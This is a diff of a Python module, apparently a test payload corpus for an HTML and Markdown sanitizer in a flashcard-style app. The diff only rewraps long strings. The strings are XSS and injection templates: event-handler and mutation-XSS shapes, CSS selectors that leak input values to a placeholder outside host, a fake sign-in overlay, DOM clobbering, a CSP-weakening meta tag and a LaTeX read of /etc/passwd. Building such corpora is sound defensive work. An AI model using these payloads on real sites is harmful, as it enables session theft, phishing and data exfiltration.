@@ -52,7 +52,10 @@ _SHAPES = {
     "animation": "<p style='animation: spin 1s' onanimationstart=CODE>x</p>",
     "transition": "<a id=x tabindex=1 style='transition: 1s' ontransitionend=CODE>x</a>",
     "pointer": "<p onpointerover=CODE onpointerrawupdate=CODE onmousemove=CODE>over here</p>",
-    "content-visibility": "<p oncontentvisibilityautostatechange=CODE style='content-visibility:auto'>",
+    "content-visibility": (
+        "<p oncontentvisibilityautostatechange=CODE "
+        "style='content-visibility:auto'>"
+    ),
     # Frames and plugins.
     "frame-script": "<iframe src='javascript:parent.CODE'></iframe>",
     "frame-document": "<iframe srcdoc=\"<script>parent.CODE</script>\"></iframe>",
@@ -79,17 +82,26 @@ _SHAPES = {
     "base": "<base href='ELSEWHERE/'>",
     "meta-refresh": "<meta http-equiv=refresh content='0;url=ELSEWHERE/NAME'>",
     "meta-code": "<meta http-equiv=refresh content='0;url=javascript:CODE'>",
-    "meta-policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
+    "meta-policy": (
+        "<meta http-equiv=Content-Security-Policy content=\"script-src "
+        "'unsafe-inline'\">"
+    ),
     # Styles that phone home.
     "style-import": "<style>@import url(ELSEWHERE/NAME.css);</style>",
     "style-background": "<style>body{background:url(ELSEWHERE/NAME.png)}</style>",
     "style-attribute": "<p style=\"background:url('ELSEWHERE/NAME.png')\">x</p>",
     "style-list": "<ul style='list-style:url(ELSEWHERE/NAME.png)'><li>x</ul>",
-    "style-font": "<style>@font-face{font-family:x;src:url(ELSEWHERE/NAME.woff)}p{font-family:x}</style>",
+    "style-font": (
+        "<style>@font-face{font-family:x;src:url(ELSEWHERE/NAME.woff)"
+        "}p{font-family:x}</style>"
+    ),
     "style-secrets": "<style>input[value^='a']{background:url(ELSEWHERE/NAME-a)}</style>",
     "style-cover": "<p style='position:fixed;inset:0;z-index:9999'>Sign in again</p>",
     "link-style": "<link rel=stylesheet href='ELSEWHERE/NAME.css'>",
-    "link-prefetch": "<link rel=prefetch href='ELSEWHERE/NAME'><link rel=dns-prefetch href='ELSEWHERE'>",
+    "link-prefetch": (
+        "<link rel=prefetch href='ELSEWHERE/NAME'><link rel=dns-prefetch "
+        "href='ELSEWHERE'>"
+    ),
     "link-preload": "<link rel=preload as=image href='ELSEWHERE/NAME.png'>",
     # Pictures and sounds elsewhere.
     "picture-elsewhere": "<img src='ELSEWHERE/NAME.png'>",
@@ -104,7 +116,10 @@ _SHAPES = {
     "track": "<video><track default src='ELSEWHERE/NAME.vtt'></video>",
     # What a parser reads otherwise the second time.
     "noscript": "<noscript><p title=\"</noscript><img src=x onerror=CODE>\"></noscript>",
-    "math-style": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=CODE&gt;\">",
+    "math-style": (
+        "<math><mtext><table><mglyph><style><!--</style><img "
+        "title=\"--&gt;&lt;img src=1 onerror=CODE&gt;\">"
+    ),
     "svg-style": "<svg></p><style><a id=\"</style><img src=1 onerror=CODE>\">",
     "form-in-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CODE>",
     "title": "<title><img src=x onerror=CODE></title>",
@@ -121,7 +136,10 @@ _SHAPES = {
     "u2028": "\u2028</p><img src=x onerror=CODE>\u2029",
     # Names that pages use themselves.
     "clobber": "<a id=csrf_token></a><form id=body name=cookie><input name=parentNode></form>",
-    "controller": "<div data-controller=review data-action='CODE' data-src='ELSEWHERE/NAME'>x</div>",
+    "controller": (
+        "<div data-controller=review data-action='CODE' "
+        "data-src='ELSEWHERE/NAME'>x</div>"
+    ),
     # Maths and code.
     "maths-link": "\\(\\href{javascript:CODE}{NAME}\\)",
     "maths-html": "\\(\\text{<img src=x onerror=CODE>}\\)",
@@ -130,12 +148,21 @@ _SHAPES = {
     "maths-class": "\\(\\class{x\" onmouseover=\"CODE}{y}\\)",
     "maths-include": "\\(\\includegraphics{ELSEWHERE/NAME.png}\\)",
     "maths-require": "\\(\\require{html}\\htmlId{x}{y}\\def\\x{\\x\\x}\\x\\)",
-    "maths-mathml": "<math><maction actiontype='statusline#CODE' xlink:href='javascript:CODE'>x</maction></math>",
+    "maths-mathml": (
+        "<math><maction actiontype='statusline#CODE' "
+        "xlink:href='javascript:CODE'>x</maction></math>"
+    ),
     "maths-link-mathml": "<math href='javascript:CODE'><mi>NAME</mi></math>",
-    "maths-annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror=CODE></annotation-xml></math>",
+    "maths-annotation": (
+        "<math><annotation-xml encoding='text/html'><img src=x "
+        "onerror=CODE></annotation-xml></math>"
+    ),
     "latex": "[latex]\\input{/etc/passwd}<img src=x onerror=CODE>[/latex]",
     "latex-dollars": "[$]</math><script>CODE</script>[/$]",
-    "code-block": "<pre><code class='language-\"><img src=x onerror=CODE>'><script>CODE</script></code></pre>",
+    "code-block": (
+        "<pre><code class='language-\"><img src=x "
+        "onerror=CODE>'><script>CODE</script></code></pre>"
+    ),
     # Clozes and hints.
     "cloze-text": "{{c1::<img src=x onerror=CODE>}}",
     "cloze-hint": "{{c1::a::<img src=x onerror=CODE>}}",
@@ -153,7 +180,10 @@ _SHAPES = {
     "markdown-fence": "```html\" onmouseover=\"CODE\n<script>CODE</script>\n```",
     "markdown-attributes": "x{: onmouseover=CODE style='background:url(ELSEWHERE/NAME)'}",
     "markdown-maths": "$$\\text{</math><script>CODE</script>}$$",
-    "markdown-diagram": "```mermaid\ngraph TD; a[\"<img src=x onerror=CODE>\"]; click a \"javascript:CODE\"\n```",
+    "markdown-diagram": (
+        "```mermaid\ngraph TD; a[\"<img src=x onerror=CODE>\"]; click a "
+        "\"javascript:CODE\"\n```"
+    ),
 }  # fmt: skip
 
 PAYLOADS: dict[str, str] = {
